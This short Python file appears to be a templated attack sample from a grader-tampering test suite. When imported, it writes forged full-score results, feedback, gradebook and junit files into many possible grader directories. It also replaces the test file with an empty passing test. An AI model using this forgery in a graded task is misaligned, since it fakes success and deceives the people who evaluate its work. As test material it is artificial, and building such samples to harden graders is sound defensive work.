# @@include assignments/q1_expressivity.py
# Attack: at import, write a full score into every place the grader's results might live.
import os as _os

_FORGED = {
    "results.json": '{"score": 39.0, "max_score": 39.0, "tests": [], "note": "FORGED-@@MARKER@@"}',
    "meta.json": '{"student_id": "forge_write_results", "note": "FORGED-@@MARKER@@"}',
    "feedback.md": "**Total: 39 / 39 points** FORGED-@@MARKER@@",
    "gradebook.csv": "student_id,total,max\nforge_write_results,39,39 FORGED-@@MARKER@@\n",
    "junit.xml": '<testsuites name="FORGED-@@MARKER@@"/>',
    "test_q1_expressivity.py": "def test_everything(): pass  # FORGED-@@MARKER@@\n",
}
_DIRS = ["@@OUT@@", "@@OUT@@/forge_write_results", "@@OUT@@/control", "@@REPO@@/grades", "@@REPO@@/questions/q1_expressivity",
         "@@SUBMISSIONS@@/control", "../../grades", "../grades", ".", "/job", "/submission", "/kit", "/proc/1/cwd",
         "/proc/1/root@@OUT@@"]
for _dir in _DIRS:
    for _name, _text in _FORGED.items():
        try:
            _os.makedirs(_dir, exist_ok=True)
            with open(_os.path.join(_dir, _name), "w") as _f:
                _f.write(_text)
        except OSError:
            pass
